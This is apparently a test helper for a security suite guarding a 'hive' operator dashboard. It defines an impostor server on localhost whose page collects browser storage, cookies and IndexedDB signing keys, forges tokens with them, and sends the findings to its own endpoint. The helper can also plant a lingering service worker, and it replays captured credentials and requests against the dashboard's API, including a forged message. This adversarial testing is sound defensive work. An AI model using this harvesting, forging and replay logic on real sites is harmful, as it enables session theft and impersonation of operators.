// Another program at an address to which the operator's browser comes: it notes what it is sent, and its page looks
// for whatever the browser keeps that lets it act at the hive.
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { createServer as createSecureServer } from "node:https";
import path from "node:path";

const tls = path.resolve(import.meta.dirname, "../fixtures/tls");

/** Runs in the page of the impostor. `target` is the origin of the hive. */
async function lookAround(target) {
  const found = { kept: [...Object.keys(localStorage), ...Object.keys(sessionStorage)], cookies: document.cookie, keys: [], read: [] };
  const ended = (request) => new Promise((done, failed) => {
    request.onsuccess = () => done(request.result);
    request.onerror = () => failed(request.error);
  });
  const base64url = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
  const use = async ({ session, key }) => {
    const [nonce, own] = ["A".repeat(22), `${Date.now() + 600_000}.${"A".repeat(43)}`];
    const proof = base64url(await crypto.subtle.sign("HMAC", key, new TextEncoder().encode(`hive token ${session} ${nonce} ${own}`)));
    const taken = await crypto.subtle.exportKey("raw", key).then(() => true, () => false);
    found.keys.push({ session, taken, token: `${session}.${nonce}.${own}.${proof}` });
  };
  for (const { name } of await indexedDB.databases()) {
    const database = await ended(indexedDB.open(name));
    for (const store of database.objectStoreNames)
      for (const row of await ended(database.transaction(store).objectStore(store).getAll())) if (row.key) await use(row);
    database.close();
  }
  const reads = target === location.origin ? [] : ["/", "/api/state", "/healthz"];
  for (const where of reads)
    for (const credentials of ["include", "omit"]) {
      const answer = await fetch(target + where, { credentials, headers: credentials === "include" ? {} : { "x-hive-token": "A" } }).catch(() => undefined);
      if (answer) found.read.push(where);
    }
  await fetch("/found", { method: "POST", body: JSON.stringify(found) });
}

/** Leaves a worker that goes on after this program: one that answers for the hive, or one that only watches. */
async function leaveWorker() {
  await navigator.serviceWorker.register("/left.js", { scope: "/" });
  await navigator.serviceWorker.ready;
  await fetch("/found", { method: "POST", body: "{}" });
}
const workers = {
  answers: `addEventListener("fetch", (event) => event.request.mode === "navigate" && event.respondWith(
    new Response("<title>left behind</title>", { headers: { "content-type": "text/html" } })));`,
  watches: `addEventListener("fetch", (event) => event.respondWith(fetch(event.request)));`,
};

export class Impostor {
  /** Requests, as they came. */
  seen = [];

  /** `target`: the hive's origin. `port` 0: any. `worker`: which is left behind; without it the page looks around. */
  static async listen({ target, port = 0, scheme = "http", worker }) {
    const impostor = new Impostor();
    impostor.found = new Promise((done) => (impostor.tell = done));
    const script = worker ? `(${leaveWorker})()` : `(${lookAround})(${JSON.stringify(target)})`;
    impostor.page = `<!doctype html><title>impostor</title><script>${script}</script>`;
    impostor.worker = `onactivate = (event) => event.waitUntil(clients.claim()); ${workers[worker]}`;
    const serve = (request, response) => void impostor.serve(request, response);
    impostor.server = scheme === "http" ? createServer(serve)
      : createSecureServer({ key: readFileSync(`${tls}/key.pem`), cert: readFileSync(`${tls}/certificate.pem`) }, serve);
    await new Promise((done, failed) => impostor.server.on("error", failed).listen(port, "127.0.0.1", done));
    impostor.origin = `${scheme}://127.0.0.1:${impostor.server.address().port}`;
    return impostor;
  }

  async serve(request, response) {
    let body = "";
    for await (const chunk of request) body += chunk;
    this.seen.push({ method: request.method, url: request.url, headers: request.headers, body });
    const say = (type, text, more = {}) => response.writeHead(200, { "content-type": type, ...more }).end(text);
    if (request.url === "/found") {
      this.tell(JSON.parse(body));
      return say("application/json", "{}");
    }
    if (request.url === "/left.js") return say("text/javascript", this.worker);
    // As if it had the key.
    if (request.method === "POST") return say("application/json", JSON.stringify({ nonce: `9999999999999.${"A".repeat(43)}`, proof: "A".repeat(43), seconds: 600, session: "A".repeat(22), phrase: "a-b-c" }));
    return say("text/html", this.page);
  }

  async close() {
    // In this order: who comes between the two would be waited for without end.
    const closed = new Promise((done) => this.server.close(done));
    this.server.closeAllConnections();
    await closed;
  }
}

/** Acts as the operator with what a request brought, or with a token: what got through, as the addresses of it. */
export async function tryAll(origin, { seen = [], tokens = [] }) {
  const through = [];
  const only = (headers, isWanted) => Object.fromEntries(Object.entries(headers).filter(([name]) => isWanted(name)));
  const brought = seen.map(({ headers }) => only(headers, (name) => ["cookie", "authorization", "x-hive-token"].includes(name)));
  for (const headers of [...brought, ...tokens.map((token) => ({ "x-hive-token": token }))]) {
    const read = await fetch(`${origin}/api/state`, { headers });
    if (read.ok) through.push("/api/state");
    const { token } = read.ok ? await read.json() : {};
    const act = await fetch(`${origin}/op-send`, {
      method: "POST",
      headers: { "content-type": "application/json", ...(token ? { "x-hive-token": token } : {}), ...headers },
      body: JSON.stringify({ to: "manager", body: "forged" }),
    });
    if (act.ok) through.push("/op-send");
  }
  // Word for word, as they came.
  for (const { method, url, headers, body } of seen.filter(({ url: to }) => to !== "/found")) {
    const again = await fetch(origin + url, { method, headers: only(headers, (name) => !["host", "connection", "content-length"].includes(name)), body: method === "POST" ? body : undefined });
    if (again.ok && /^\/(api|op-send|dashboard|agent\/[^/]+\/.)/.test(url)) through.push(url);
  }
  return through;
}
